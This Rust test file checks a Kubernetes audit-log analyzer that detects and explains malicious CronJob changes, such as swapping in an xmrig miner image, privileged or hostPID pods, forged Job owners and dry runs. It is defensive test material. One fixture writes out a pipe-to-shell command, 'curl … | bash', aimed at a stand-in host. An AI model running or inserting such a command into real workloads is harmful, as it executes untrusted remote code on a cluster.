//! The runbook for requests that fail, are dry runs, or make false claims: only what took effect counts.

use std::fmt::Write;

use serde_json::{Value, json};

use crate::{hits, kubesweep, scan};

const CONTROLLER: &str = "system:serviceaccount:kube-system:cronjob-controller";
const JOBS: &str = "system:serviceaccount:kube-system:job-controller";
const FINE: &str = "registry.example.com/report:1";
const MINER: &str = "docker.io/x/xmrig";

/// A request on the CronJob `b`, `minute` minutes into 2026-05-01; members of `more` replace the default ones.
fn request(minute: i64, verb: &str, user: &str, more: &Value) -> Value {
    let start: jiff::Timestamp = "2026-05-01T00:00:00Z".parse().unwrap();
    let time = start.checked_add(jiff::SignedDuration::from_mins(minute)).unwrap();
    let id = format!("{minute} {verb} {user} {more}");
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": id,
        "stage": "ResponseComplete", "requestURI": "/b", "verb": verb, "user": {"username": user},
        "objectRef": {"resource": "cronjobs", "namespace": "p", "name": "b"},
        "responseStatus": {"code": if verb == "create" { 201 } else { 200 }}, "requestReceivedTimestamp": time,
    });
    event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    event
}

fn in_template(pod: &Value) -> Value {
    json!({"jobTemplate": {"spec": {"template": {"spec": pod}}}})
}

fn cronjob(image: &str, schedule: &str, more: &Value) -> Value {
    let mut spec = in_template(&json!({"containers": [{"name": "c", "image": image}]}));
    spec["schedule"] = schedule.into();
    spec.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    json!({"kind": "CronJob", "metadata": {"name": "b", "namespace": "p"}, "spec": spec})
}

fn whole(image: &str) -> Value {
    cronjob(image, "0 2 * * *", &json!({}))
}

fn asked(body: &Value) -> Value {
    json!({"requestObject": body})
}

/// The Job that the controller makes at a minute (29,626,560 minutes after 1970), with members of `more` replaced.
fn job(minute: i64, user: &str, image: &str, more: &Value) -> Value {
    let name = more["name"].as_str().map_or_else(|| format!("b-{}", 29_626_560 + minute), str::to_owned);
    let owner = if more["owner"] == false { json!([]) } else { json!([{"kind": "CronJob", "name": "b"}]) };
    let body = json!({"kind": "Job", "metadata": {"name": name, "ownerReferences": owner},
        "spec": {"template": {"spec": {"containers": [{"name": "c", "image": image}]}}}});
    let code = more["code"].as_i64().unwrap_or(201);
    let place = json!({"resource": "jobs", "namespace": "p", "name": name});
    request(
        minute,
        "create",
        user,
        &json!({"objectRef": place, "requestObject": body, "responseStatus": {"code": code}}),
    )
}

fn pod(minute: i64, job: &str, image: &str) -> Value {
    let body = json!({"kind": "Pod", "metadata": {"ownerReferences": [{"kind": "Job", "name": job, "controller": true}]},
        "spec": {"containers": [{"name": "c", "image": image}]}});
    request(
        minute,
        "create",
        JOBS,
        &json!({"objectRef": {"resource": "pods", "namespace": "p"}, "requestObject": body}),
    )
}

/// The runbook of some events.
fn judged(events: &[Value], options: &[&str]) -> Value {
    let directory = tempfile::tempdir().unwrap();
    let lines = events.iter().fold(String::new(), |mut lines, event| {
        writeln!(lines, "{event}").unwrap();
        lines
    });
    std::fs::write(directory.path().join("audit.log"), lines).unwrap();
    let arguments = [&["runbook", "audit.log", "--format", "json", "-q"], options].concat();
    let run = kubesweep(directory.path(), &arguments);
    assert_eq!(run.exit, 0, "{}", run.stderr);
    serde_json::from_str(&run.stdout).unwrap()
}

/// For the alert of a user: verdict, level, image, source of the spec.
fn verdict(runbook: &Value, user: &str) -> [String; 4] {
    let page = page(runbook, user);
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let what = &page["cronjobs"][0];
    [&page["verdict"], &page["spec_level"], &what["containers"][0]["image"], &what["spec_source"]].map(text)
}

fn page<'r>(runbook: &'r Value, user: &str) -> &'r Value {
    let mut pages = runbook["alerts"].as_array().unwrap().iter();
    pages.find(|page| page["username"] == user).unwrap()
}

fn since<'r>(runbook: &'r Value, user: &str) -> &'r str {
    page(runbook, user)["since"]["text"].as_str().unwrap()
}

#[test]
fn a_patch_with_all_that_a_whole_one_must_have_is_a_patch() {
    let privileged = json!({"containers": [{"name": "c", "image": MINER, "securityContext": {"privileged": true}}]});
    let mut evil = whole(MINER);
    evil["spec"]["jobTemplate"] = in_template(&privileged)["jobTemplate"].clone();
    let mut patch =
        json!({"spec": in_template(&json!({"containers": [{"name": "c", "env": [{"name": "A", "value": "1"}]}]}))});
    patch["spec"]["schedule"] = "*/30 * * * *".into();
    let create = request(0, "create", "argo", &asked(&evil));
    let found = judged(&[create.clone(), request(60, "patch", "bob", &asked(&patch))], &[]);
    assert_eq!(verdict(&found, "bob"), ["MALICIOUS-LIKELY", "S3", MINER, "patch on the last known state"]);
    let what = &page(&found, "bob")["cronjobs"][0];
    assert_eq!(what["containers"][0]["security_context"], "privileged");
    assert_eq!(what["diff"].as_array().unwrap().len(), 2, "{}", what["diff"]);

    let applied = whole(MINER).to_string();
    patch["metadata"] = json!({"annotations": {"kubectl.kubernetes.io/last-applied-configuration": applied}});
    let found = judged(&[request(60, "patch", "bob", &asked(&patch))], &[]);
    assert_eq!(verdict(&found, "bob")[1..3], ["S3", MINER]);

    // Server-side apply sends a whole object.
    let found = judged(&[request(60, "patch", "bob", &asked(&whole(MINER)))], &[]);
    assert_eq!(verdict(&found, "bob")[2..], [MINER, "requestObject"]);
}

#[test]
fn only_what_took_effect_shows_a_state() {
    let (one, two) = (whole("r.example.com/b:1"), whole("r.example.com/b:2"));
    let both = |body: &Value| json!({"requestObject": body, "responseObject": body});
    let status = |code: i64, body: &Value| {
        json!({"objectRef": {"resource": "cronjobs", "subresource": "status", "namespace": "p", "name": "b"},
               "responseStatus": {"code": code}, "requestObject": body})
    };
    let after = cronjob("r.example.com/b:2", "5 5 * * *", &json!({}));
    let patch = json!({"spec": {"schedule": "5 5 * * *"}});
    let found = judged(
        &[
            request(0, "create", "argo", &both(&one)),
            request(60, "update", "alice", &both(&two)),
            request(61, "update", CONTROLLER, &status(409, &one)),
            request(600, "patch", "bob", &json!({"requestObject": patch, "responseObject": after})),
        ],
        &[],
    );
    let bob = page(&found, "bob");
    assert_eq!(bob["cronjobs"][0]["diff"].as_array().unwrap().len(), 1, "{}", bob["cronjobs"][0]["diff"]);
    assert_eq!(bob["red_flags"], json!([]));

    // The API server ignores everything but the status in a status update.
    let forged = [
        request(0, "create", "argo", &asked(&whole(MINER))),
        request(60, "update", "eve", &status(200, &one)),
        request(600, "patch", "bob", &asked(&patch)),
    ];
    assert_eq!(verdict(&judged(&forged, &[]), "bob")[1..3], ["S3", MINER]);
}

#[test]
fn a_job_shows_what_the_last_write_with_effect_left() {
    let create = |user: &str| request(0, "create", user, &json!({}));
    let eve = ["MALICIOUS-LIKELY", "S3", MINER, "Job that the controller made"];
    let dry = request(1, "patch", "bob", &json!({"requestURI": "/b?dryRun=All"}));
    let found = judged(&[create("eve"), dry, job(5, CONTROLLER, MINER, &json!({}))], &[]);
    assert_eq!(verdict(&found, "eve"), eve);
    assert_eq!(verdict(&found, "bob")[..2], ["REVIEW", "S?"]);
    let refused = request(1, "patch", "bob", &json!({"responseStatus": {"code": 403}}));
    let found = judged(&[create("eve"), refused, job(5, CONTROLLER, MINER, &json!({}))], &[]);
    assert_eq!(verdict(&found, "eve"), eve);

    // Anybody may name a CronJob as the owner of a Job.
    for forger in ["eve", "system:serviceaccount:p:cronjob-controller"] {
        let forged = job(1, forger, FINE, &json!({"name": "manual"}));
        let found = judged(&[create("eve"), forged, job(5, CONTROLLER, MINER, &json!({}))], &[]);
        assert_eq!(verdict(&found, "eve"), eve, "{forger}");
    }
    let by_minute = format!("b-{}", 29_626_560 + 60);
    for name in [by_minute.as_str(), "b-20260501", "b-1234567890"] {
        let of_bob = job(60, "bob", MINER, &json!({"name": name, "owner": false}));
        let found = judged(&[create("alice"), of_bob, pod(60, name, MINER)], &[]);
        assert_eq!(verdict(&found, "alice")[..2], ["REVIEW", "S?"], "{name}");
        assert_eq!(found["controller_only"], json!([]), "{name}");
    }
    let found = judged(&[create("alice"), pod(60, &by_minute, MINER)], &[]);
    assert_eq!(verdict(&found, "alice")[1..], ["S3", MINER, "Pod of its Job"]);
}

#[test]
fn jobs_that_were_not_made_were_not_started() {
    let create = request(0, "create", "eve", &json!({}));
    let failed = [409, 500].map(|code| job(5, CONTROLLER, MINER, &json!({"code": code})));
    let found = judged(&[&[create.clone()][..], &failed].concat(), &[]);
    assert_eq!(verdict(&found, "eve")[1], "S?");
    let blind = "no Job of it is logged, and none of any CronJob of this cluster, so that runs cannot be seen; ";
    assert!(since(&found, "eve").starts_with(blind), "{}", since(&found, "eve"));
    let other = job(5, CONTROLLER, FINE, &json!({"name": format!("other-{}", 29_626_565), "owner": false}));
    let found = judged(&[&[create][..], &failed, &[other]].concat(), &[]);
    assert!(since(&found, "eve").starts_with("0 Jobs started, 0 Pods; "), "{}", since(&found, "eve"));

    let refused = request(0, "create", "eve", &json!({"responseStatus": {"code": 403}}));
    let found = judged(&[refused, job(5, CONTROLLER, MINER, &json!({}))], &[]);
    assert_eq!(found["controller_only"][0]["spec_level"], "S3");
}

#[test]
fn the_end_of_a_cronjob_is_what_the_log_says_of_it() {
    let create = |minute, user: &str| request(minute, "create", user, &asked(&whole(FINE)));
    let nameless = json!({"objectRef": {"resource": "cronjobs", "namespace": "p"}});
    let sweep = |minute| request(minute, "deletecollection", "bob", &nameless);
    let again = [create(0, "eve"), request(20, "delete", "eve", &json!({})), create(1500, "argo")];
    let found = judged(&again, &[]);
    let text = since(&found, "eve");
    assert!(
        text.ends_with("deleted 2026-05-01T00:20:00Z by eve, and made again 2026-05-02T01:00:00Z by argo"),
        "{text}"
    );
    assert!(!page(&found, "eve")["next"].to_string().contains("delete cronjob"));

    let late = [create(0, "eve"), request(3000, "delete", "eve", &json!({}))];
    let found = judged(&late, &["--since", "2026-05-01", "--until", "2026-05-02"]);
    let text = since(&found, "eve");
    assert!(text.ends_with("probably still there at the end of the time asked for, 2026-05-02T00:00:00Z"), "{text}");

    let alive = [create(0, "eve"), sweep(5), request(300, "patch", "carol", &json!({"responseObject": whole(FINE)}))];
    assert!(since(&judged(&alive, &[]), "eve").contains("no delete logged"));
    let found = judged(&[create(0, "eve"), sweep(5)], &[]);
    assert!(
        since(&found, "eve")
            .ends_with("perhaps deleted 2026-05-01T00:05:00Z by bob: deletecollection in the namespace")
    );
    let found = judged(&[request(0, "create", "eve", &nameless), sweep(5)], &[]);
    assert!(since(&found, "eve").contains("perhaps deleted"));
    assert_eq!(page(&found, "eve")["red_flags"], json!([]));

    let dry = json!({"requestURI": "/b?dryRun=All", "requestObject": whole(MINER)});
    let found = judged(&[request(0, "create", "eve", &dry)], &[]);
    assert_eq!(since(&found, "eve"), "a dry run: it wrote nothing");
    assert!(!page(&found, "eve")["next"].to_string().contains("delete cronjob"));
}

/// A miner that somebody reverts no longer runs, and later Jobs are not its own.
#[test]
fn a_spec_is_in_force_until_a_later_write_changes_what_runs() {
    let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
    let mut labelled = whole(MINER);
    labelled["metadata"]["labels"] = json!({"a": "b"});
    let jobs = [(90, MINER), (110, MINER), (250, FINE), (270, FINE)];
    let jobs = jobs.map(|(minute, image)| job(minute, CONTROLLER, image, &json!({})));
    let set_back = [
        request(0, "create", "argo", &asked(&whole(FINE))),
        update(60, "eve", &whole(MINER)),
        update(70, "bob", &labelled),
        update(240, "argo", &whole(FINE)),
    ];
    let found = judged(&[&set_back[..], &jobs].concat(), &[]);
    let text = since(&found, "eve");
    assert!(text.starts_with("2 Jobs started (first 2026-05-01T01:30:00Z, last 2026-05-01T01:50:00Z)"), "{text}");
    assert!(
        text.contains("changed again 2026-05-01T04:00:00Z by argo (image, back to what ran before): this spec was in force 3 h 0 min; then 2 Jobs started; no delete logged: the CronJob, not this spec, was probably still there"),
        "{text}"
    );
    assert_eq!(page(&found, "eve")["since"]["changed_by"], "argo");

    let suspended = cronjob(MINER, "0 2 * * *", &json!({"suspend": true}));
    let found = judged(&[update(0, "eve", &whole(MINER)), update(300, "eve", &suspended)], &[]);
    assert!(since(&found, "eve").contains("changed again 2026-05-01T05:00:00Z by eve (suspend): this spec was in"));

    let unknown = [update(0, "eve", &whole(MINER)), request(300, "update", "bob", &json!({}))];
    let found = judged(&unknown, &[]);
    let text = since(&found, "eve");
    assert!(text.contains("; written again 2026-05-01T05:00:00Z by bob, and the log does not tell what"), "{text}");
    assert!(text.contains("no delete logged: probably still there"), "{text}");
}

/// What others rely on is suspended and restored; no step says to delete it, least of all once it is reverted.
/// Also where the same user makes it, so soon that it is part of the alert.
#[test]
fn a_revert_within_an_alert_is_told() {
    let runbook = judged(
        &[
            request(0, "create", "argo", &asked(&whole(FINE))),
            request(120, "patch", "eve", &asked(&whole(MINER))),
            job(130, CONTROLLER, MINER, &json!({})),
            request(150, "patch", "eve", &asked(&whole(FINE))),
            job(160, CONTROLLER, FINE, &json!({})),
            job(170, CONTROLLER, FINE, &json!({})),
        ],
        &[],
    );
    let text = since(&runbook, "eve");
    let expected = "1 Job started (first 2026-05-01T02:10:00Z, last 2026-05-01T02:10:00Z), 0 Pods; changed again 2026-05-01T02:30:00Z by eve (image, back to what ran before): this spec was in force 30 min; then 2 Jobs started; no delete logged: the CronJob, not this spec,";
    assert!(text.starts_with(expected), "{text}");
    let next = page(&runbook, "eve")["next"].to_string();
    assert!(!next.contains("put back"), "{next}");
}

#[test]
fn next_steps_fit_what_became_of_the_cronjob() {
    let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
    let next = |events: &[Value], user: &str| page(&judged(events, &[]), user)["next"].to_string().replace("\\\"", "'");
    let create = request(0, "create", "argo", &asked(&whole(FINE)));
    let evil = update(60, "eve", &whole(MINER));
    let steps = next(&[create.clone(), evil.clone()], "eve");
    assert!(steps.contains("kubectl -n p patch cronjob b -p '{'spec':{'suspend':true}}'"), "{steps}");
    assert!(steps.contains("the diff says what it was"), "{steps}");
    assert!(!steps.contains("delete cronjob"), "{steps}");
    let steps = next(&[create.clone(), evil.clone(), update(240, "argo", &whole(FINE))], "eve");
    assert!(
        steps.contains("it was changed again since, so look at it before you stop it; changed by: argo"),
        "{steps}"
    );
    assert!(!steps.contains("delete cronjob") && !steps.contains("patch cronjob"), "{steps}");
    // What the repair found is the attack.
    let repair = [create.clone(), evil.clone(), update(240, "mallory", &whole(FINE))];
    let steps = next(&repair, "mallory");
    assert!(steps.contains("what it replaced looks worse than what it left"), "{steps}");
    assert!(!steps.contains("put back what was right") && !steps.contains("patch cronjob"), "{steps}");
    // A spec that names no service account has this one, and its token.
    assert!(next(&[create.clone(), evil.clone()], "eve").contains("look at what it may do: p/default"));
    let steps = next(&[evil], "eve");
    assert!(steps.contains("this dump does not tell it") && !steps.contains("delete cronjob"), "{steps}");
    let steps = next(&[request(0, "create", "eve", &asked(&whole(MINER)))], "eve");
    assert!(steps.contains("'kubectl -n p delete cronjob b'".replace('\'', "\"").as_str()), "{steps}");
    let refused = json!({"responseStatus": {"code": 403}, "requestObject": whole(MINER)});
    assert_eq!(judged(&[request(0, "create", "eve", &refused)], &[])["alerts"], json!([]));
}

/// A spec that still contains part of the change is not what ran before.
#[test]
fn a_partial_revert_is_no_way_back() {
    let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
    let mut grave = whole(MINER);
    grave["spec"]["jobTemplate"]["spec"]["template"]["spec"]["hostPID"] = json!(true);
    let mut left = whole(FINE);
    left["spec"]["jobTemplate"]["spec"]["template"]["spec"]["hostPID"] = json!(true);
    let create = request(0, "create", "argo", &asked(&whole(FINE)));
    let since = |last: &Value| {
        let events = [create.clone(), update(60, "eve", &grave), update(120, "bob", last)];
        page(&judged(&events, &[]), "eve")["since"]["text"].as_str().unwrap().to_owned()
    };
    assert!(since(&left).contains("(image)"), "{}", since(&left));
    assert!(since(&whole(FINE)).contains("(image, pod template, back to what ran before)"), "{}", since(&whole(FINE)));
}

/// A single alert that is graver than many alike comes before them, whenever it happened.
#[test]
fn the_gravest_of_a_verdict_comes_first_and_what_is_alike_is_folded() {
    let script = json!({"containers": [{"name": "c", "image": FINE, "command": ["sh", "-c", "curl -s https://x.example.net/p | bash"]}]});
    let mut piped = whole(FINE);
    piped["spec"]["jobTemplate"] = in_template(&script)["jobTemplate"].clone();
    let mut events: Vec<Value> = (0..9).map(|day| request(day * 1440, "update", "op@corp", &asked(&piped))).collect();
    let place = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "late"});
    let fine = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "fine"});
    events.push(request(5000, "create", "eve", &json!({"objectRef": fine, "requestObject": whole(FINE)})));
    events.push(request(5005, "create", "eve", &json!({"objectRef": place, "requestObject": piped})));
    let found = judged(&events, &[]);
    let verdicts: Vec<&Value> = found["alerts"].as_array().unwrap().iter().map(|page| &page["verdict"]).collect();
    assert!(verdicts.iter().all(|verdict| *verdict == "SUSPICIOUS"), "{verdicts:?}");
    let flags = |at: usize| found["alerts"][at]["red_flags"].as_array().unwrap().len();
    assert!((1..10).all(|at| flags(at - 1) >= flags(at)), "{verdicts:?}");
    assert_eq!(found["alerts"][0]["decided_by"], "kube-system/late");

    let directory = tempfile::tempdir().unwrap();
    let lines: Vec<String> = events.iter().map(|event| format!("{event}\n")).collect();
    std::fs::write(directory.path().join("audit.log"), lines.concat()).unwrap();
    let (_temporary, out, run) = scan(&[directory.path().to_owned()], &[]);
    let gravest = run.stderr.split_once("gravest").unwrap().1;
    assert!(gravest.contains("[eve] created CronJob [kube-system/fine]"), "{gravest}");
    assert!(gravest.contains("decided by kube-system/late  11:25Z\n"), "{gravest}");
    assert!(gravest.contains(" alike: same user"), "{gravest}");
    assert!(run.stderr.lines().all(|line| line.chars().count() <= 80), "{}", run.stderr);
    let page = std::fs::read_to_string(out.join("report.html")).unwrap();
    assert!(page.find("[eve] created").unwrap() < page.find("[op@corp] modified").unwrap());
    assert!(page.contains("decided by <bdi>kube-system/late</bdi> 2026-05-04 11:25:00Z"));

    let run = kubesweep(directory.path(), &["scan", "audit.log", "-o", "-"]);
    assert!(!run.stderr.contains("report.html") && !run.stderr.contains(".csv"), "{}", run.stderr);
}

/// The summary names five alerts, the gravest first, in 80 columns.
#[test]
fn the_five_gravest_alerts_are_named() {
    let place = |name: &str| json!({"resource": "cronjobs", "namespace": "web", "name": name});
    let create = |minute: i64, user: &str, image: &str| {
        request(
            minute,
            "create",
            user,
            &json!({"objectRef": place(&format!("of-{user}")), "requestObject": whole(image)}),
        )
    };
    let long = format!("system:serviceaccount:{}:deployer", "tenant".repeat(9));
    let users = ["op", "a", "b", "c", &long, "d", "e"];
    let images = |user: &str| if user == "op" { FINE } else { MINER };
    let events: Vec<Value> = (0..).zip(users).map(|(minute, user)| create(minute * 3, user, images(user))).collect();
    let directory = tempfile::tempdir().unwrap();
    let lines: Vec<String> = events.iter().map(|event| format!("{event}\n")).collect();
    std::fs::write(directory.path().join("audit.log"), lines.concat()).unwrap();
    let (_temporary, _, run) = scan(&[directory.path().to_owned()], &[]);
    let (_, told) = run.stderr.split_once("gravest").unwrap();
    let (told, _) = told.split_once("top groups").unwrap();
    assert_eq!(told.matches("  alert ").count(), 5, "{told}");
    assert!(!told.contains("[op]") && told.contains("and 1 more; see report.html\n"), "{told}");
    assert!(run.stderr.lines().all(|line| line.chars().count() <= 80), "{}", run.stderr);
}

/// The history of a session is not that of everybody who shares its role.
#[test]
fn a_session_without_history_is_told_from_its_user() {
    let by = |minute, session: &str, body: &Value| {
        let user = json!({"username": "admin", "extra": {"sessionName": [session]}});
        request(minute, "update", "admin", &json!({"user": user, "requestObject": body}))
    };
    let found =
        judged(&[by(0, "anna", &whole(FINE)), by(2000, "anna", &whole(FINE)), by(4000, "i-0abc", &whole(MINER))], &[]);
    let text = found["alerts"][0]["history"]["text"].as_str().unwrap();
    assert!(
        text.starts_with("no CronJob write by session i-0abc of this user (other sessions: 2 writes; dump "),
        "{text}"
    );
}

/// A finding that another request proves names that request.
#[test]
fn reasons_lead_to_the_request_that_proves_them() {
    let refused = request(30, "create", "eve", &json!({"responseStatus": {"code": 403}}));
    let events = [
        request(0, "create", "argo", &asked(&whole(FINE))),
        refused.clone(),
        request(60, "update", "eve", &asked(&whole(MINER))),
    ];
    let found = judged(&events, &[]);
    let proof = |id: &str| {
        let mut reasons = page(&found, "eve")["reasons"].as_array().unwrap().iter();
        reasons.find(|reason| reason["id"] == id).map(|reason| reason["audit_id"].clone())
    };
    assert_eq!(proof("CJ-BEH-16"), Some(refused["auditID"].clone()));
    assert_eq!(proof("CJ-BEH-10"), Some(events[2]["auditID"].clone()));
    assert_eq!(proof("CJ-IMG-05"), Some(events[2]["auditID"].clone()));
}

/// A list that is cut says so, and how to get all of it.
#[test]
fn a_page_says_what_it_does_not_list() {
    let refused = json!({"responseStatus": {"code": 403}});
    let mut events: Vec<Value> = (0..25).map(|minute| request(minute, "create", "it's eve", &refused)).collect();
    events.push(request(60, "create", "it's eve", &asked(&whole(FINE))));
    let found = judged(&events, &[]);
    let before = &page(&found, "it's eve")["before"];
    assert_eq!((before["events"].as_array().unwrap().len(), &before["left_out"]["count"]), (20, &json!(5)));
    let command = before["left_out"]["command"].as_str().unwrap();
    let expected = r"kubesweep events DUMP --user='it'\''s eve' --resource=cronjobs --since=2026-05-01T00:00:00Z --until=2026-05-01T01:00:00Z";
    assert_eq!(command, expected);
    let words = shlex::split(&command.replace("DUMP", "audit.log")).unwrap();
    let directory = tempfile::tempdir().unwrap();
    let lines: Vec<String> = events.iter().map(|event| format!("{event}\n")).collect();
    std::fs::write(directory.path().join("audit.log"), lines.concat()).unwrap();
    let words: Vec<&str> = words[1..].iter().map(String::as_str).collect();
    let run = kubesweep(directory.path(), &words);
    assert_eq!(run.stdout.lines().count(), 25, "{}", run.stderr);
}

/// A gap before an alert is named on its page, and so is a creation that was not logged.
#[test]
fn what_the_dump_does_not_cover_is_named_where_it_matters() {
    let node = json!({"objectRef": {"resource": "nodes", "name": "n"}});
    let mut events: Vec<Value> = [0, 50, 420, 460].map(|minute| request(minute, "get", "node", &node)).to_vec();
    events.extend([425, 435].map(|minute| job(minute, CONTROLLER, FINE, &json!({}))));
    events.push(request(450, "update", "bob", &asked(&whole(FINE))));
    let found = judged(&events, &[]);
    let bob = page(&found, "bob");
    assert_eq!(bob["before"]["gap"], "nothing logged 2026-05-01 00:50Z to 2026-05-01 07:00Z, just before");
    let origin = "its creation is not in the dump; its first Job was seen 2026-05-01T07:05:00Z";
    assert_eq!(bob["cronjobs"][0]["origin"], origin);
    let missing = "get the logs of the gap before this alert, of which this dump holds nothing: 2026-05-01 00:50Z to 2026-05-01 07:00Z";
    let names = |page: &Value| page["next"].as_array().unwrap().contains(&json!(missing));
    assert!(!names(bob), "{bob:#}");
    let mut grave = events.clone();
    grave.push(request(455, "update", "eve", &asked(&whole(MINER))));
    grave.push(request(2000, "update", "mallory", &asked(&whole(MINER))));
    let found = judged(&grave, &[]);
    assert!(names(page(&found, "eve")), "{:#}", page(&found, "eve")["next"]);
    assert!(!names(page(&found, "mallory")), "{:#}", page(&found, "mallory")["next"]);

    let directory = tempfile::tempdir().unwrap();
    let lines: Vec<String> = events.iter().map(|event| format!("{event}\n")).collect();
    std::fs::write(directory.path().join("audit.log"), lines.concat()).unwrap();
    let (_temporary, _, run) = scan(&[directory.path().to_owned()], &[]);
    assert!(run.stderr.contains("longest gap 2026-05-01 00:50Z to 2026-05-01 07:00Z\n"), "{}", run.stderr);
}

/// Jobs show what ran before the first write that a dump holds; a patch shows what was asked for.
#[test]
fn what_was_there_before_the_first_write_is_told_by_jobs_or_not_at_all() {
    let old = "registry.example.com/report:0";
    let update = |minute, user: &str, image: &str| request(minute, "update", user, &asked(&whole(image)));
    let events = [
        job(10, CONTROLLER, old, &json!({})),
        job(20, CONTROLLER, FINE, &json!({})),
        job(30, CONTROLLER, FINE, &json!({})),
        update(60, "eve", MINER),
        job(70, CONTROLLER, MINER, &json!({})),
        update(120, "eve", FINE),
    ];
    let found = judged(&events, &[]);
    let mut pages = found["alerts"].as_array().unwrap().iter();
    let eve = pages.find(|page| page["spec_level"] == "S3").unwrap();
    let what = &eve["cronjobs"][0];
    assert_eq!((&what["diff"][0]["before"], &what["diff"][0]["after"]), (&json!(FINE), &json!(MINER)), "{what}");
    assert_eq!(what["diff_note"], "nothing is known beyond the pod template");
    let text = eve["since"]["text"].as_str().unwrap();
    assert!(text.starts_with("1 Job started") && text.contains("(image, back to what ran before)"), "{text}");

    let labels = json!({"metadata": {"labels": {"a": "b"}}});
    let more = json!({"requestObject": labels, "responseObject": whole(MINER)});
    let found = judged(&[request(60, "patch", "bob", &more)], &[]);
    let note = "the dump holds no earlier state; asked for: metadata.labels; the spec is what the server answered and may be older";
    assert_eq!(page(&found, "bob")["cronjobs"][0]["diff_note"], note);
}

#[test]
fn operations_that_cannot_be_repeated_leave_nothing_known() {
    let create = request(0, "create", "argo", &asked(&whole(FINE)));
    let image = "/spec/jobTemplate/spec/template/spec/containers/0/image";
    let copied = json!([{"op": "add", "path": "/metadata/annotations", "value": {"p": MINER}},
        {"op": "copy", "from": "/metadata/annotations/p", "path": image}]);
    let found = judged(&[create.clone(), request(60, "patch", "bob", &asked(&copied))], &[]);
    let what = &page(&found, "bob")["cronjobs"][0];
    assert_eq!(
        (&what["spec_source"], &what["diff_note"]),
        (&json!("patch alone"), &json!("nothing more of it is known"))
    );
    let last = json!([{"op": "replace", "path": image.replace("/0/", "/-1/"), "value": MINER}]);
    let found = judged(&[create, request(60, "patch", "bob", &asked(&last))], &[]);
    assert_eq!(verdict(&found, "bob")[1..3], ["S3", MINER]);
    let found = judged(&[request(60, "patch", "bob", &asked(&last))], &[]);
    assert_eq!(verdict(&found, "bob")[2..], [MINER, "patch alone"]);
}

/// If the specs of two writes were not logged, nothing shows which one changed what runs.
#[test]
fn a_write_whose_spec_is_lost_hides_what_the_next_one_found() {
    let lost = |minute, user: &str| request(minute, "update", user, &json!({"level": "Metadata"}));
    let jobs = [(60, FINE), (300, MINER)].map(|(minute, image)| job(minute, CONTROLLER, image, &json!({})));
    let found = judged(&[&[lost(120, "eve"), lost(240, "bob")][..], &jobs].concat(), &[]);
    let what = &page(&found, "bob")["cronjobs"][0];
    assert_eq!((&what["diff"], &what["spec_source"]), (&json!([]), &json!("Job that the controller made")));
    assert!(!page(&found, "bob")["red_flags"].to_string().contains("CJ-BEH-10"));
    assert!(since(&found, "eve").contains("written again 2026-05-01T04:00:00Z by bob, and the log does not tell what"));
    // With only one such write, it is the one that changed it.
    let found = judged(&[&[lost(240, "bob")][..], &jobs].concat(), &[]);
    assert_eq!(page(&found, "bob")["cronjobs"][0]["diff"].as_array().unwrap().len(), 1);
}

/// Server-side apply creates objects with a patch.
#[test]
fn what_is_created_is_made_of_nothing_that_was_there() {
    let code = json!({"responseStatus": {"code": 201}, "requestObject": whole(FINE)});
    let events = [request(0, "create", "eve", &asked(&whole(MINER))), request(60, "patch", "bob", &code)];
    assert_eq!(verdict(&judged(&events, &[]), "bob")[2..], [FINE, "requestObject"]);
}

/// A creation proves that the object before was gone, even if the log shows of its end only a request that named no
/// object, or nothing.
#[test]
fn a_creation_ends_what_was_created_before() {
    let create = |minute, user: &str| request(minute, "create", user, &asked(&whole(FINE)));
    let sweep =
        request(120, "deletecollection", "eve", &json!({"objectRef": {"resource": "cronjobs", "namespace": "p"}}));
    let delete = request(360, "delete", "carl", &json!({}));
    let swept = judged(&[create(0, "argo"), sweep, create(240, "bob"), delete.clone()], &[]);
    let text = "deleted 2026-05-01T02:00:00Z by eve: deletecollection in the namespace, and made again 2026-05-01T04:00:00Z by bob";
    assert!(since(&swept, "argo").ends_with(text), "{}", since(&swept, "argo"));
    assert_eq!(page(&swept, "argo")["since"]["deleted_by"], "eve");
    assert!(since(&swept, "bob").ends_with("deleted 2026-05-01T06:00:00Z by carl"), "{}", since(&swept, "bob"));
    let lost = judged(&[create(0, "argo"), create(240, "bob"), delete], &[]);
    let text = "deleted, and no request tells when, and made again 2026-05-01T04:00:00Z by bob";
    assert!(since(&lost, "argo").ends_with(text), "{}", since(&lost, "argo"));
    assert_eq!(page(&lost, "argo")["since"]["deleted_by"], Value::Null);
    assert!(!page(&lost, "argo")["next"].to_string().contains("delete the CronJob"), "{}", page(&lost, "argo")["next"]);
}

/// Otherwise many short patches would leave as many long states.
#[test]
fn patches_make_no_state_longer_than_they_may() {
    let create = request(0, "create", "argo", &asked(&whole(FINE)));
    let grown = |size: usize| {
        let place = "/spec/jobTemplate/spec/template/spec/containers/0/env";
        let operation = json!([{"op": "add", "path": place, "value": [{"name": "A", "value": "x".repeat(size)}]}]);
        let patch = request(60, "patch", "bob", &asked(&operation));
        verdict(&judged(&[create.clone(), patch], &[]), "bob")[3].clone()
    };
    assert_eq!([60_000, 70_000].map(grown), ["patch on the last known state", "patch alone"]);
}

/// Forty doublings would make a trillion, and a value freed by recursion must not nest 200,000 levels deep.
#[test]
fn patches_that_copy_what_they_copied_or_lie_too_deep_are_shown_alone() {
    let create = request(0, "create", "argo", &asked(&whole(FINE)));
    let copy = |at: i32| json!({"op": "copy", "from": "/spec", "path": format!("/spec/{at}")});
    let deep = json!({"op": "add", "path": format!("/spec{}", "/a".repeat(200_000)), "value": 1});
    for (patch, source) in [
        ((0..3).map(copy).collect(), "patch on the last known state"),
        ((0..40).map(copy).collect(), "patch alone"),
        (json!([deep]), "patch alone"),
    ] {
        let patch: Value = patch;
        let found = judged(&[create.clone(), request(60, "patch", "bob", &asked(&patch))], &[]);
        assert_eq!(page(&found, "bob")["cronjobs"][0]["spec_source"], source);
    }
}

#[test]
fn what_is_not_known_is_said() {
    let configmap =
